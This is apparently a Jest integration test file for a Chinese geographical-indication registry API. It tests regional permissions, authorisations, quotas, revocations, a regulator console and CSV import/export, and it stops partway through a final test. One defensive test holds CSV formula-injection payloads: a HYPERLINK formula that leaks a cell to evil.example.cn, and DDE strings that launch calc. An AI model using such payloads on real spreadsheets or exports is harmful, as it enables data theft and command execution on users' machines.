import { parse } from 'csv-parse/sync';
import { randomInt } from 'node:crypto';
import { DataSource } from 'typeorm';
import { chinaDate } from '../libs/codes/calendar-date';
import { ConsoleClient, consoleUser } from './support/console';
import { auth, createOrg, createProduct, createRegulator, createSite, OrgWithKey, uniqueUscc } from './support/factories';
import { ADMIN_TOKEN, createTestApp, TestApp } from './support/test-app';

let next = randomInt(10_000, 80_000);
const agiNumber = () => `AGI${String(next++).padStart(5, '0')}`;

describe('geographical indications: registry, authorised users, claims, CSV, usage report', () => {
  let t: TestApp;
  let db: DataSource;
  let chengdu: OrgWithKey; // 成都市 regulator
  let coop: OrgWithKey; // cooperative in 蒲江县
  let site: { id: string };
  let productId: string;

  const gi = (fields: Record<string, unknown> = {}) => ({
    regime: 'agi', registrationNumber: agiNumber(), productName: '蒲江猕猴桃', holderUscc: uniqueUscc('12', '510131'),
    holderName: '蒲江县农业技术推广站', areaCodes: ['510131'], areaText: '蒲江县所辖12个乡镇', specReference: 'AGI2012-02-0001',
    announcementNumber: '农业部公告第1813号', announcedOn: '2012-08-03', ...fields,
  });
  const createGi = async (fields: Record<string, unknown> = {}, token = chengdu.token) =>
    (await t.http().post('/api/v1/gi').set(auth(token)).send(gi(fields)).expect(201)).body as { id: string; registrationNumber: string };
  const authorise = (giId: string, body: Record<string, unknown>, token = chengdu.token) =>
    t.http().post(`/api/v1/gi/${giId}/authorisations`).set(auth(token)).send(body);
  const batch = (token: string, fields: Record<string, unknown>) =>
    t.http().post('/api/v1/batches').set(auth(token)).send({ productId, siteId: site.id, quantity: { value: '100', unit: 'kg' }, producedOn: '2026-10-08', ...fields });

  beforeAll(async () => {
    t = await createTestApp();
    db = t.app.get(DataSource);
    chengdu = await createRegulator(t, '510100');
    coop = await createOrg(t, { name: '蒲江县绿源猕猴桃专业合作社' });
    site = await createSite(t, coop.token, { name: '西来镇猕猴桃基地', location: { lat: 30.2358, lng: 103.4661 } });
    productId = (await createProduct(t, coop.token)).id;
  });
  afterAll(() => t.close());

  describe('registry', () => {
    it('lets regulators (in their region) and admins write, and everyone read without a token', async () => {
      const created = await createGi({ boundingBox: { minLat: 30.05, minLng: 103.3, maxLat: 30.35, maxLng: 103.7 }, chinaEu: true });
      const res = await t.http().get(`/api/v1/gi/${created.id}`).expect(200);
      expect(res.body).toMatchObject({
        regime: 'agi', regimeName: '农产品地理标志', registrationNumber: created.registrationNumber, productName: '蒲江猕猴桃',
        protectedArea: { codes: [{ code: '510131', name: '四川省成都市蒲江县' }], boundingBox: { minLat: 30.05 } }, chinaEu: true, status: 'active',
      });
      const list = await t.http().get('/api/v1/gi?regionCode=510131&regime=agi&limit=200').expect(200);
      expect(list.body.items.map((g: { id: string }) => g.id)).toContain(created.id);
      const elsewhere = await t.http().get('/api/v1/gi?regionCode=511823').expect(200);
      expect(elsewhere.body.items.map((g: { id: string }) => g.id)).not.toContain(created.id);

      // 涪城芦笋 lies in 绵阳市: not the 成都市 regulator's to write, but the province's or an admin's.
      const fucheng = gi({ registrationNumber: 'AGI02738', productName: '涪城芦笋', areaCodes: ['510703'], specReference: 'AGI2019-03-2738' });
      const foreign = await t.http().post('/api/v1/gi').set(auth(chengdu.token)).send(fucheng).expect(403);
      expect(foreign.body).toMatchObject({ code: 'FORBIDDEN', details: { field: 'areaCodes' } });
      const sichuan = await createRegulator(t, '510000');
      await t.http().post('/api/v1/gi').set(auth(sichuan.token)).send(fucheng).expect(201);
      const dup = await t.http().post('/api/v1/gi').set(auth(ADMIN_TOKEN)).send(fucheng).expect(409);
      expect(dup.body.code).toBe('DUPLICATE_GI');
      await t.http().post('/api/v1/gi').set(auth(coop.token)).send(gi()).expect(403);
    });

    it.each([
      [{ registrationNumber: 'AGI2738' }, 'INVALID_GI_REGISTRATION_NUMBER', 'registrationNumber'],
      [{ regime: 'gi_trademark', registrationNumber: 'TM-12' }, 'INVALID_GI_REGISTRATION_NUMBER', 'registrationNumber'],
      [{ areaCodes: ['510124'] }, 'INVALID_REGION_CODE', 'areaCodes[0]'],
      [{ areaCodes: ['510131', '999999'] }, 'INVALID_REGION_CODE', 'areaCodes[1]'],
      [{ holderUscc: '91510114730209375A' }, 'INVALID_USCC', 'holderUscc'],
      [{ boundingBox: { minLat: 31, minLng: 103, maxLat: 30, maxLng: 104 } }, 'INVALID_BOUNDING_BOX', 'boundingBox'],
      [{ specReference: 'AGI2019-3-2738' }, 'INVALID_GI_SPEC_REFERENCE', 'specReference'],
    ])('refuses %o with %s naming %s', async (fields, code, field) => {
      const res = await t.http().post('/api/v1/gi').set(auth(ADMIN_TOKEN)).send(gi(fields)).expect(400);
      expect(res.body).toMatchObject({ code, details: { field } });
    });

    it('refuses unknown fields and regimes through the validation pipe', async () => {
      const res = await t.http().post('/api/v1/gi').set(auth(ADMIN_TOKEN)).send(gi({ regime: 'ugi', colour: 'red' })).expect(400);
      expect(res.body.code).toBe('VALIDATION_FAILED');
      expect(res.body.details.fields.map((f: { field: string }) => f.field)).toEqual(expect.arrayContaining(['regime', 'colour']));
    });
  });

  describe('authorised users and claims', () => {
    it('authorises by id or USCC, refuses foreign organisations and overlapping periods', async () => {
      const g = await createGi();
      const byId = await authorise(g.id, { organizationId: coop.id, validFrom: '2026-01-01', validTo: '2026-06-30' }).expect(201);
      expect(byId.body).toMatchObject({ organization: { id: coop.id, name: '蒲江县绿源猕猴桃专业合作社' }, validTo: '2026-06-30', status: 'active' });
      const [{ uscc }] = await db.query('SELECT uscc FROM organizations WHERE id = $1', [coop.id]);
      await authorise(g.id, { uscc, validFrom: '2026-07-01', yearlyQuota: { value: '5', unit: 't' } }).expect(201);
      const overlap = await authorise(g.id, { organizationId: coop.id, validFrom: '2026-06-01', validTo: '2026-07-15' }).expect(409);
      expect(overlap.body).toMatchObject({ code: 'GI_AUTHORISATION_OVERLAP', details: { field: 'validFrom' } });

      // Two overlapping periods sent at once: exactly one is accepted.
      const racer = await createOrg(t, { name: '蒲江县第三合作社' });
      const racing = await Promise.all(['2031-01-01', '2031-06-01'].map((validFrom) => authorise(g.id, { organizationId: racer.id, validFrom, validTo: '2031-12-31' })));
      expect(racing.map((r) => r.status).sort()).toEqual([201, 409]);

      const hanyuan = await createOrg(t, { name: '汉源县花椒合作社', regionCode: '511823' });
      const foreign = await authorise(g.id, { organizationId: hanyuan.id, validFrom: '2026-01-01' }).expect(404);
      expect(foreign.body.code).toBe('NOT_FOUND');
      await authorise(g.id, { organizationId: coop.id, validFrom: '2027-13-01' }).expect(400);
      const backwards = await authorise(g.id, { organizationId: coop.id, validFrom: '2030-02-01', validTo: '2030-01-01' }).expect(400);
      expect(backwards.body.details.field).toBe('validTo');
      await authorise(g.id, { organizationId: coop.id, validFrom: '2030-01-01' }, coop.token).expect(403);

      // An admin may authorise anyone; the 成都市 regulator cannot see (or change) that authorisation.
      const byAdmin = (await authorise(g.id, { organizationId: hanyuan.id, validFrom: '2026-01-01' }, ADMIN_TOKEN).expect(201)).body;
      await t.http().post(`/api/v1/gi/${g.id}/authorisations/${byAdmin.id}/revoke`).set(auth(chengdu.token)).send({ reason: 'x' }).expect(404);
      await t.http().patch(`/api/v1/gi/${g.id}/authorisations/${byAdmin.id}`).set(auth(chengdu.token)).send({ validTo: '2026-12-31' }).expect(404);

      const list = await t.http().get(`/api/v1/gi/${g.id}/authorisations`).set(auth(coop.token)).expect(200);
      expect(list.body.items).toHaveLength(4);
      expect(list.body.items.find((a: { yearlyQuota: unknown }) => a.yearlyQuota)).toMatchObject({ yearlyQuota: { value: '5', unit: 't' }, validTo: null });
    });

    it('records a valid claim with the batch, and refuses each broken rule by name without creating the batch', async () => {
      const g = await createGi({ boundingBox: { minLat: 30.05, minLng: 103.3, maxLat: 30.35, maxLng: 103.7 } });
      await authorise(g.id, { organizationId: coop.id, validFrom: '2026-01-01', validTo: '2026-12-31' }).expect(201);

      const ok = await batch(coop.token, { giId: g.id }).expect(201);
      const [claim] = await db.query('SELECT * FROM gi_claims WHERE batch_id = $1', [ok.body.id]);
      expect(claim).toMatchObject({ gi_id: g.id, organization_id: coop.id, year: 2026, base_unit: 'kg' });

      const before = Number((await db.query('SELECT count(*) FROM batches WHERE organization_id = $1', [coop.id]))[0].count);
      const outside = await createSite(t, coop.token, { name: '郫都区基地', regionCode: '510117' });
      const farAway = await createSite(t, coop.token, { name: '县城外基地', regionCode: '510131', location: { lat: 30.6, lng: 104.06 } });
      const cases: [Record<string, unknown>, string][] = [
        [{ siteId: outside.id }, 'GI_OUTSIDE_AREA'],
        [{ siteId: farAway.id }, 'GI_OUTSIDE_AREA'],
        [{ producedOn: '2025-12-31' }, 'GI_NOT_AUTHORISED'],
        [{ producedOn: '2011-05-01' }, 'GI_NOT_YET_REGISTERED'],
      ];
      for (const [fields, code] of cases) {
        const res = await batch(coop.token, { giId: g.id, ...fields }).expect(422);
        expect(res.body).toMatchObject({ code, details: { field: 'giId' } });
      }
      const stranger = await createOrg(t, { name: '另一个合作社' });
      const strangerSite = await createSite(t, stranger.token);
      const strangerProduct = await createProduct(t, stranger.token);
      const notAuthorised = await t.http().post('/api/v1/batches').set(auth(stranger.token))
        .send({ productId: strangerProduct.id, siteId: strangerSite.id, quantity: { value: '1', unit: 'kg' }, producedOn: '2026-10-08', giId: g.id }).expect(422);
      expect(notAuthorised.body.code).toBe('GI_NOT_AUTHORISED');
      const after = Number((await db.query('SELECT count(*) FROM batches WHERE organization_id = $1', [coop.id]))[0].count);
      expect(after).toBe(before);
      const refusals = await db.query('SELECT reason FROM gi_claim_refusals WHERE gi_id = $1 ORDER BY created_at', [g.id]);
      expect(refusals.map((r: { reason: string }) => r.reason)).toEqual(['GI_OUTSIDE_AREA', 'GI_OUTSIDE_AREA', 'GI_NOT_AUTHORISED', 'GI_NOT_YET_REGISTERED', 'GI_NOT_AUTHORISED']);
      const unknown = await batch(coop.token, { giId: '00000000-0000-4000-8000-000000000000' }).expect(404);
      expect(unknown.body).toMatchObject({ code: 'NOT_FOUND', details: { field: 'giId' } });
      await batch(coop.token, { giId: 'not-a-uuid' }).expect(400);
    });

    it('keeps a yearly quota even under concurrent claims, and refuses a quota below what is claimed', async () => {
      const g = await createGi();
      const a = (await authorise(g.id, { organizationId: coop.id, validFrom: '2026-01-01', yearlyQuota: { value: '1', unit: 't' } }).expect(201)).body;
      await batch(coop.token, { giId: g.id, quantity: { value: '600', unit: 'kg' } }).expect(201);
      const over = await batch(coop.token, { giId: g.id, quantity: { value: '900', unit: '斤' } }).expect(422);
      expect(over.body).toMatchObject({ code: 'GI_QUOTA_EXCEEDED', details: { remaining: { value: '400', unit: 'kg' } } });
      const units = await batch(coop.token, { giId: g.id, quantity: { value: '3', unit: '箱' } }).expect(422);
      expect(units.body.code).toBe('GI_QUOTA_UNIT_MISMATCH');
      // Another year has its own quota.
      await batch(coop.token, { giId: g.id, quantity: { value: '1', unit: 't' }, producedOn: '2026-01-01' }).expect(422);

      // Six concurrent batches of 100 kg into the remaining 400 kg: exactly four fit.
      const results = await Promise.all(Array.from({ length: 6 }, () => batch(coop.token, { giId: g.id, quantity: { value: '100', unit: 'kg' } })));
      expect(results.map((r) => r.status).sort()).toEqual([201, 201, 201, 201, 422, 422]);
      const [{ sum }] = await db.query('SELECT sum(base_amount)::text AS sum FROM gi_claims WHERE authorisation_id = $1', [a.id]);
      expect(Number(sum)).toBe(1000);

      const below = await t.http().patch(`/api/v1/gi/${g.id}/authorisations/${a.id}`).set(auth(chengdu.token)).send({ yearlyQuota: { value: '999', unit: 'kg' } }).expect(409);
      expect(below.body).toMatchObject({ code: 'GI_QUOTA_BELOW_CLAIMED', details: { year: 2026, claimed: { value: '1000', unit: 'kg' } } });
      const shorter = await t.http().patch(`/api/v1/gi/${g.id}/authorisations/${a.id}`).set(auth(chengdu.token)).send({ validTo: '2026-06-30' }).expect(409);
      expect(shorter.body.code).toBe('GI_AUTHORISATION_HAS_CLAIMS');
      const raised = await t.http().patch(`/api/v1/gi/${g.id}/authorisations/${a.id}`).set(auth(chengdu.token)).send({ yearlyQuota: { value: '2', unit: 't' } }).expect(200);
      expect(raised.body.yearlyQuota).toEqual({ value: '2', unit: 't' });
      await batch(coop.token, { giId: g.id, quantity: { value: '100', unit: 'kg' } }).expect(201);
    });

    it('stops new claims after a revocation but keeps the old ones, and the scan page says so', async () => {
      const g = await createGi();
      const a = (await authorise(g.id, { organizationId: coop.id, validFrom: '2026-01-01' }).expect(201)).body;
      const claimed = (await batch(coop.token, { giId: g.id })).body as { id: string; traceCode: string };
      let scan = await t.http().get(`/api/v1/scan/${claimed.traceCode}`).expect(200);
      expect(scan.body.gi).toMatchObject({ name: '蒲江猕猴桃', regime: 'agi', registrationNumber: g.registrationNumber, status: 'active', authorisedUser: { state: 'authorised' } });
      expect(JSON.stringify(scan.body.gi)).not.toContain(coop.id);

      await t.http().post(`/api/v1/gi/${g.id}/authorisations/${a.id}/revoke`).set(auth(chengdu.token)).send({ reason: '违规使用', revokedOn: '2026-11-01' }).expect(201);
      const refused = await batch(coop.token, { giId: g.id }).expect(422);
      expect(refused.body.code).toBe('GI_AUTHORISATION_REVOKED');
      scan = await t.http().get(`/api/v1/scan/${claimed.traceCode}`).expect(200);
      expect(scan.body.gi.authorisedUser).toMatchObject({ state: 'revoked', endedOn: '2026-11-01' });
      // A new authorisation from the revocation on is allowed (periods do not overlap any more).
      await authorise(g.id, { organizationId: coop.id, validFrom: '2026-11-01' }).expect(201);

      await t.http().post(`/api/v1/gi/${g.id}/revoke`).set(auth(chengdu.token)).send({ reason: '登记证书注销' }).expect(201);
      await t.http().post(`/api/v1/gi/${g.id}/revoke`).set(auth(chengdu.token)).send({ reason: 'again' }).expect(409);
      expect((await batch(coop.token, { giId: g.id, producedOn: '2026-11-02' }).expect(422)).body.code).toBe('GI_REVOKED');
      const page = await t.http().get(`/t/${claimed.traceCode}`).expect(200);
      expect(page.text).toContain('该地理标志已于');
      expect((await db.query('SELECT count(*)::int AS n FROM gi_claims WHERE gi_id = $1', [g.id]))[0].n).toBe(1);
    });
  });

  describe('regulator console (地理标志)', () => {
    it('lets a regulator record a GI of its region, add and remove authorised users and revoke it, showing quota and use; nothing of another region', async () => {
      const regulator = await consoleUser(t, chengdu.id, `gi-regulator-${Date.now()}`, '成都市农业农村局2026冬', 'regulator');
      const home = await regulator.get('/app/gi');
      expect(home.status).toBe(200);
      expect(Buffer.byteLength(home.text)).toBeLessThan(50 * 1024);
      expect(home.text).toContain('href="/app/gi"');
      // Every field the API refuses is named at once; an area outside the region is named, not a 403.
      const empty = await regulator.submit('/app/gi', '/app/gi', { regime: 'agi' });
      expect(empty.status).toBe(422);
      for (const name of ['registrationNumber', 'productName', 'holderUscc', 'areaCodes']) expect(empty.text).toMatch(new RegExp(`name="${name}"[^>]*aria-invalid="true"`));
      const number = agiNumber();
      const holderUscc = uniqueUscc('12', '510131');
      const form = { regime: 'agi', registrationNumber: number, productName: '蒲江猕猴桃', holderUscc, holderName: '蒲江县农业技术推广站', announcedOn: '2012-08-03' };
      const outside = await regulator.submit('/app/gi', '/app/gi', { ...form, areaCodes: '四川省绵阳市涪城区' });
      expect(outside.status).toBe(422);
      expect(outside.text).toContain('须在本辖区内');
      expect(outside.text).not.toContain('没有这项操作的权限');
      const created = await regulator.submit('/app/gi', '/app/gi', { ...form, areaCodes: '蒲江' });
      expect(created.status).toBe(303);
      const path = (created.headers.location as string).split('?')[0];
      const id = path.split('/').pop()!;
      expect((await t.http().get(`/api/v1/gi/${id}`).expect(200)).body).toMatchObject({ registrationNumber: number, protectedArea: { codes: [{ code: '510131' }] }, status: 'active' });

      // An authorised user by USCC with a yearly quota; a batch claims under it and the page shows what is used.
      const [{ uscc }] = await db.query('SELECT uscc FROM organizations WHERE id = $1', [coop.id]);
      const today = chinaDate();
      const year = today.slice(0, 4);
      const added = await regulator.submit(path, `${path}/authorisations`, { uscc, validFrom: `${year}-01-01`, validTo: '', 'yearlyQuota.value': '5', 'yearlyQuota.unit': 't' });
      expect(added.status).toBe(303);
      await batch(coop.token, { giId: id, producedOn: today }).expect(201);
      let page = await regulator.get(path);
      expect(page.text).toContain('蒲江县绿源猕猴桃专业合作社');
      expect(page.text).toMatch(new RegExp(`年度配额 5 t；${year} 年已用 100 kg`));
      const list = await regulator.get('/app/gi');
      expect(list.text).toContain(number);
      expect(list.text).toMatch(/授权使用人 1 家/);
      // A user outside 成都 (an admin's authorisation) is listed, but is not 成都's to remove: no form.
      const hanyuan = await createOrg(t, { name: '汉源县花椒专业合作社', regionCode: '511823' });
      const byAdmin = (await authorise(id, { organizationId: hanyuan.id, validFrom: `${year}-01-01` }, ADMIN_TOKEN).expect(201)).body as { id: string };
      expect((await regulator.get(path)).text).toContain('汉源县花椒专业合作社');
      expect((await regulator.get(path)).text).not.toContain(`/authorisations/${byAdmin.id}/revoke`);
      // Removing a user and revoking the record are destructive: red, confirmed, with a reason.
      const authId = (await db.query('SELECT id FROM gi_authorisations WHERE gi_id = $1 AND organization_id = $2', [id, coop.id]))[0].id as string;
      expect(page.text).toMatch(new RegExp(`<form method="post" action="${path}/authorisations/${authId}/revoke" class="danger-form" novalidate data-confirm="[^"]+"`));
      expect(page.text).toMatch(new RegExp(`<form method="post" action="${path}/revoke" class="card danger-form" novalidate data-confirm="[^"]+"`));
      const noReason = await regulator.submit(path, `${path}/authorisations/${authId}/revoke`, { reason: ' ' });
      expect(noReason.status).toBe(422);
      expect(noReason.text).toContain('此项必填');
      expect((await regulator.submit(path, `${path}/authorisations/${authId}/revoke`, { reason: '超范围用标' })).status).toBe(303);
      page = await regulator.get(path);
      expect(page.text).toMatch(/已取消 \d{4}-\d{2}-\d{2}/);
      expect((await regulator.submit(path, `${path}/revoke`, { reason: '' })).status).toBe(422);
      expect((await regulator.submit(path, `${path}/revoke`, { reason: '质量技术要求不再符合' })).status).toBe(303);
      page = await regulator.get(path);
      expect(page.text).toContain('已撤销');
      expect(page.text).not.toMatch(/<form(?![^>]*action="\/app\/logout)/);
      expect((await t.http().get(`/api/v1/gi/${id}`).expect(200)).body).toMatchObject({ status: 'revoked', revokedReason: '质量技术要求不再符合' });

      // 绵阳's record is not in 成都's list and its page and forms answer 404; the province's covers 成都: shown, no forms.
      const mianyang = await createRegulator(t, '510700');
      const fu = await createGi({ productName: '涪城蜜柚', areaCodes: ['510703'] }, mianyang.token);
      const province = await createGi({ productName: '四川泡菜', areaCodes: ['510000'] }, ADMIN_TOKEN);
      const again = await regulator.get('/app/gi');
      expect(again.text).not.toContain(fu.registrationNumber);
      expect(again.text).toContain(province.registrationNumber);
      expect((await regulator.get(`/app/gi/${fu.id}`)).status).toBe(404);
      const csrf = ConsoleClient.hidden(again.text, '/app/gi')._csrf;
      expect((await regulator.post(`/app/gi/${fu.id}/revoke`, { _csrf: csrf, reason: '越权' })).status).toBe(404);
      expect((await t.http().get(`/api/v1/gi/${fu.id}`).expect(200)).body.status).toBe('active');
      const provincial = await regulator.get(`/app/gi/${province.id}`);
      expect(provincial.status).toBe(200);
      expect(provincial.text).toContain('由上级监管部门管理');
      expect(provincial.text).not.toMatch(/<form(?![^>]*action="\/app\/logout)/);
      // Producers have no such workspace.
      const coopUser = await consoleUser(t, coop.id, `gi-coop-${Date.now()}`, '蒲江猕猴桃2026冬天');
      expect((await coopUser.get('/app/gi')).status).toBe(303);
      expect((await coopUser.get('/app')).text).not.toContain('href="/app/gi"');
    });
  });

  describe('usage report', () => {
    it('gives regulators claimed quantities per GI, per user and per period, and refused attempts; scoped to their region', async () => {
      const g = await createGi();
      await authorise(g.id, { organizationId: coop.id, validFrom: '2026-01-01' }).expect(201);
      await batch(coop.token, { giId: g.id, quantity: { value: '100', unit: 'kg' }, producedOn: '2026-09-10' }).expect(201);
      await batch(coop.token, { giId: g.id, quantity: { value: '0.5', unit: 't' }, producedOn: '2026-09-20' }).expect(201);
      await batch(coop.token, { giId: g.id, quantity: { value: '50', unit: 'kg' }, producedOn: '2026-10-01' }).expect(201);
      const outside = await createSite(t, coop.token, { regionCode: '510117' });
      await batch(coop.token, { giId: g.id, siteId: outside.id, producedOn: '2026-10-02' }).expect(422);

      const res = await t.http().get(`/api/v1/gi/usage?from=2026-01-01&to=2026-12-31&period=month&giId=${g.id}`).set(auth(chengdu.token)).expect(200);
      expect(res.body.claimsByGi).toEqual([
        { gi: expect.objectContaining({ id: g.id }), period: '2026-09', batches: 2, quantity: { value: '600', unit: 'kg' } },
        { gi: expect.objectContaining({ id: g.id }), period: '2026-10', batches: 1, quantity: { value: '50', unit: 'kg' } },
      ]);
      expect(res.body.claimsByUser[0]).toMatchObject({ organization: { id: coop.id, name: '蒲江县绿源猕猴桃专业合作社' }, period: '2026-09' });
      expect(res.body.refusals).toEqual([expect.objectContaining({ period: '2026-10', reason: 'GI_OUTSIDE_AREA', attempts: 1 })]);
      const yearly = await t.http().get(`/api/v1/gi/usage?from=2026-01-01&to=2026-12-31&period=year&giId=${g.id}`).set(auth(ADMIN_TOKEN)).expect(200);
      expect(yearly.body.claimsByGi).toEqual([expect.objectContaining({ period: '2026', batches: 3, quantity: { value: '650', unit: 'kg' } })]);

      const ya = await createRegulator(t, '511800');
      const other = await t.http().get(`/api/v1/gi/usage?from=2026-01-01&to=2026-12-31&giId=${g.id}`).set(auth(ya.token)).expect(200);
      expect(other.body.claimsByGi).toEqual([]);
      await t.http().get('/api/v1/gi/usage?from=2026-01-01&to=2026-12-31').set(auth(coop.token)).expect(403);
      await t.http().get('/api/v1/gi/usage?from=2026-12-31&to=2026-01-01').set(auth(chengdu.token)).expect(400);
    });
  });

  describe('CSV import and export', () => {
    const header = 'regime,registration_number,product_name,holder_uscc,holder_name,area_codes,area_text,announced_on,china_eu';
    const csvPost = (path: string, body: string, token = chengdu.token) =>
      t.http().post(path).set(auth(token)).set('Content-Type', 'text/csv').send(body);
    const count = async (table: string) => (await db.query(`SELECT count(*)::int AS n FROM ${table}`))[0].n as number;

    it('reports every broken row and imports nothing; a clean file imports once and re-imports as unchanged', async () => {
      const [a, b, c] = [agiNumber(), agiNumber(), agiNumber()];
      const holder = uniqueUscc('12', '510131');
      const broken = [
        header,
        `agi,${a},蒲江雀舌,${holder},蒲江县茶叶协会,510131,蒲江县全境,2016-03-31,是`,
        `agi,AGI123,坏编号,${holder},,510131,,,`,
        `agi,${b},旧代码,${holder},,510124,,,`,
        `agi,${c},坏日期,${holder},,510131,,2016-02-30,`,
        `agi,${a},重复,${holder},,510131,,,`,
        `pgi,质检总局公告2005年第78号,汉源花椒,${holder},,511823,,,`,
      ].join('\n');
      const before = await count('gi_records');
      const res = await csvPost('/api/v1/gi/records.csv', broken).expect(422);
      expect(res.body.code).toBe('GI_IMPORT_REJECTED');
      expect(res.body.details).toMatchObject({ rowCount: 6, problemCount: 5, truncated: false });
      for (const p of res.body.details.problems) expect(Object.keys(p).sort()).toEqual(['code', 'column', 'message', 'row']);
      expect(res.body.details.problems).toEqual([
        expect.objectContaining({ row: 3, column: 'registration_number', code: 'INVALID_GI_REGISTRATION_NUMBER' }),
        expect.objectContaining({ row: 4, column: 'area_codes', code: 'INVALID_REGION_CODE' }),
        expect.objectContaining({ row: 5, column: 'announced_on', code: 'VALIDATION_FAILED' }),
        expect.objectContaining({ row: 6, column: 'registration_number', code: 'DUPLICATE_IN_FILE' }),
        expect.objectContaining({ row: 7, column: 'area_codes', code: 'FORBIDDEN' }),
      ]);
      expect(await count('gi_records')).toBe(before);

      const clean = ['\uFEFF' + header, `agi,${a},蒲江雀舌,${holder},蒲江县茶叶协会,510131,蒲江县全境,2016-03-31,是`,
        `gi_trademark,${String(7_000_000 + randomInt(999_999))},蒲江猕猴桃,${holder},"蒲江县猕猴桃协会, 商标注册人",510131 510100,"成都市, 蒲江县",,否`].join('\r\n');
      expect((await csvPost('/api/v1/gi/records.csv?dryRun=true', clean).expect(201)).body).toMatchObject({ created: 2, dryRun: true });
      expect(await count('gi_records')).toBe(before);
      expect((await csvPost('/api/v1/gi/records.csv', clean).expect(201)).body).toMatchObject({ rows: 2, created: 2, updated: 0, unchanged: 0 });
      expect((await csvPost('/api/v1/gi/records.csv', clean).expect(201)).body).toMatchObject({ rows: 2, created: 0, updated: 0, unchanged: 2 });
      expect(await count('gi_records')).toBe(before + 2);

      const exported = await t.http().get('/api/v1/gi/records.csv').expect(200);
      expect(exported.headers['content-type']).toContain('text/csv');
      expect(exported.text.startsWith('\uFEFFregime,registration_number')).toBe(true);
      expect(exported.text).toContain('"蒲江县猕猴桃协会, 商标注册人"');
      const again = await csvPost('/api/v1/gi/records.csv', exported.text, ADMIN_TOKEN).expect(201);
      expect(again.body).toMatchObject({ created: 0, updated: 0 });
      expect(again.body.unchanged).toBe(again.body.rows);
    });

    it('imports authorisations by organisation id or USCC with per-row errors, atomically and idempotently', async () => {
      const g = await createGi();
      const [{ number }] = await db.query('SELECT registration_number AS number FROM gi_records WHERE id = $1', [g.id]);
      const second = await createOrg(t, { name: '蒲江县第二合作社' });
      const [{ uscc }] = await db.query('SELECT uscc FROM organizations WHERE id = $1', [second.id]);
      const hanyuan = await createOrg(t, { name: '汉源县花椒合作社', regionCode: '511823' });
      const head = 'regime,registration_number,organization,valid_from,valid_to,quota_value,quota_unit';
      const broken = [head,
        `agi,${number},${coop.id},2026-01-01,2026-12-31,1000,kg`,
        `agi,${number},${uscc},2026-01-01,,5,t`,
        `agi,${number},${hanyuan.id},2026-01-01,,,`,
        `agi,${number},${coop.id},2026-06-01,2027-06-30,,`,
        `agi,${number},${uniqueUscc()},2026-01-01,,,`,
        `agi,AGI00000,${coop.id},2026-01-01,,,`,
        `agi,${number},${second.id},2027-01-01,2026-01-01,,`,
        `agi,${number},${second.id},2028-01-01,,12,cm`,
      ].join('\n');
      const before = await count('gi_authorisations');
      const res = await csvPost('/api/v1/gi/authorisations.csv', broken).expect(422);
      expect(res.body.details.problems.map((r: { row: number; code: string }) => [r.row, r.code])).toEqual([
        [4, 'NOT_FOUND'], [5, 'GI_AUTHORISATION_OVERLAP'], [6, 'NOT_FOUND'], [7, 'NOT_FOUND'], [8, 'VALIDATION_FAILED'], [9, 'INVALID_QUANTITY'],
      ]);
      expect(res.body.details.problems[0].column).toBe('organization');
      expect(await count('gi_authorisations')).toBe(before);

      const clean = [head, `agi,${number},${coop.id},2026-01-01,2026-12-31,1000,kg`, `agi,${number},${uscc},2026-01-01,,5,t`].join('\n');
      expect((await csvPost('/api/v1/gi/authorisations.csv', clean).expect(201)).body).toMatchObject({ created: 2, unchanged: 0 });
      expect((await csvPost('/api/v1/gi/authorisations.csv', clean).expect(201)).body).toMatchObject({ created: 0, updated: 0, unchanged: 2 });
      await batch(coop.token, { giId: g.id, quantity: { value: '800', unit: 'kg' } }).expect(201);
      const lower = [head, `agi,${number},${coop.id},2026-01-01,2026-12-31,500,kg`].join('\n');
      const lowered = await csvPost('/api/v1/gi/authorisations.csv', lower).expect(422);
      expect(lowered.body.details.problems).toEqual([expect.objectContaining({ row: 2, code: 'GI_QUOTA_BELOW_CLAIMED', column: 'quota_value' })]);

      const exported = await t.http().get('/api/v1/gi/authorisations.csv').set(auth(chengdu.token)).expect(200);
      expect(exported.text).toContain(`agi,${number},${uscc},蒲江县第二合作社,2026-01-01,,5,t,active`);
      expect(exported.text).not.toContain(hanyuan.id);
      const reimport = await csvPost('/api/v1/gi/authorisations.csv', exported.text).expect(201);
      expect(reimport.body.created).toBe(0);
      expect(reimport.body.unchanged).toBe(reimport.body.rows);
    });

    it('neutralises formula cells in both exports (public records.csv, regulators\' authorisations.csv), and the exports re-import unchanged', async () => {
      const hostile = {
        productName: '=HYPERLINK("http://evil.example.cn/?leak="&A1,"点我")', holderName: '@SUM(1+1)*cmd|\' /C calc\'!A0',
        areaText: '+1+1', specReference: '-2+3+cmd|\' /C calc\'!A0',
      };
      const g = await createGi(hostile);
      const holder = await createOrg(t, { name: '=1+1 恶意合作社' });
      await authorise(g.id, { organizationId: holder.id, validFrom: '2026-01-01' }).expect(201);

      const records = await t.http().get('/api/v1/gi/records.csv').expect(200);
      const recordRow = (parse(records.text, { bom: true, columns: true }) as Record<string, string>[]).find((r) => r.registration_number === g.registrationNumber);
      expect(recordRow).toMatchObject({
        product_name: `'${hostile.productName}`, holder_name: `'${hostile.holderName}`, area_text: `'${hostile.areaText}`, spec_reference: `'${hostile.specReference}`,
      });
      const auths = await t.http().get('/api/v1/gi/authorisations.csv').set(auth(chengdu.token)).expect(200);
      const authRow = (parse(auths.text, { bom: true, columns: true }) as Record<string, string>[]).find((r) => r.registration_number === g.registrationNumber);
      expect(authRow).toMatchObject({ organization_name: "'=1+1 恶意合作社" });
      for (const text of [records.text, auths.text]) {
        for (const cell of (parse(text, { bom: true }) as string[][]).flat()) expect(cell).not.toMatch(/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/);
      }

      // Re-importing the exports changes nothing: the apostrophes are read back off.
      const again = await csvPost('/api/v1/gi/records.csv', records.text, ADMIN_TOKEN).expect(201);
      expect(again.body.unchanged).toBe(again.body.rows);
      const [stored] = await db.query('SELECT product_name AS "productName", holder_name AS "holderName", area_text AS "areaText", spec_reference AS "specReference" FROM gi_records WHERE id = $1', [g.id]);
      expect(stored).toEqual(hostile);
      const reimport = await csvPost('/api/v1/gi/authorisations.csv', auths.text).expect(201);
      expect(reimport.body.unchanged).toBe(reimport.body.rows);
    });

    it('answers malformed files and wrong content types with 4xx', async () => {
      expect((await csvPost('/api/v1/gi/records.csv', 'regime\nagi\n"unterminated\nagi,x').expect(400)).body).toMatchObject({ code: 'INVALID_CSV', details: { rule: 'csv', row: 3 } });
